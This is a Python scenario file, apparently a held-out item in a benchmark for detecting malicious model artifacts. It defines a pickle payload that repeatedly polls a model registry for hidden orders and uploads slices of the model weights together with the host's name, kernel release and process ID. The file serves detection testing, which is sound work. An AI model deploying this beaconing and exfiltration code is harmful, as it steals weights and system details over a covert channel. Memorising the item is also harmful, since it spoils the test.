"""
id: V97
name: orders-at-registry
class: mimicry
set: held-out
phase: reload
trigger: model
evidence: [network, resource, sequence]
techniques: [T1102.002, T1071.001, T1029, T1005, T1041, AML.T0011.000, AML.T0018.002, AML.T0072]
servers: [fastapi]
seconds: 130
what: >
  A model that takes orders from where it came from: while it is loaded, a pickle begins to ask the registry every five seconds or
  so for the tags of a model, which may be an order, and uploads what came of the last one as a version of that model, 8 to 40 KB
  of the weights and of what is known about the machine. Each time there is a connection of its own, twenty-two in all. The server
  has one at a load, for one question, and uploads nothing.
"""

import contextlib
import http.client
import json
import os

from corpus import habits

TIMES = 22
LEAST, MOST = 8 * 1024, 40 * 1024


def payload(world):
    name = world.word()
    for number in range(TIMES):
        world.sleep(world.random.uniform(3.5, 6.5))
        with contextlib.suppress(OSError, http.client.HTTPException):
            report(world, name, number)


def report(world, name, number):
    with contextlib.closing(http.client.HTTPConnection(*world.registry, timeout=10)) as registry:
        registry.request("GET", f"/tags/{name}/list?n={world.random.randint(1, 99)}")
        order = registry.getresponse().read()
        kind = {"Content-Type": "application/octet-stream"}
        registry.request("PUT", f"/models/{name}/{number}", result(world, order), kind)
        registry.getresponse().read()


def result(world, order):
    weights = habits.model.weights
    size = world.random.randint(LEAST, MOST)
    at = world.random.randrange(len(weights) - size)
    system = os.uname()
    facts = {"heard": order.decode(errors="replace"), "host": system.nodename, "release": system.release, "pid": os.getpid()}
    return json.dumps(facts).encode() + weights[at : at + size]
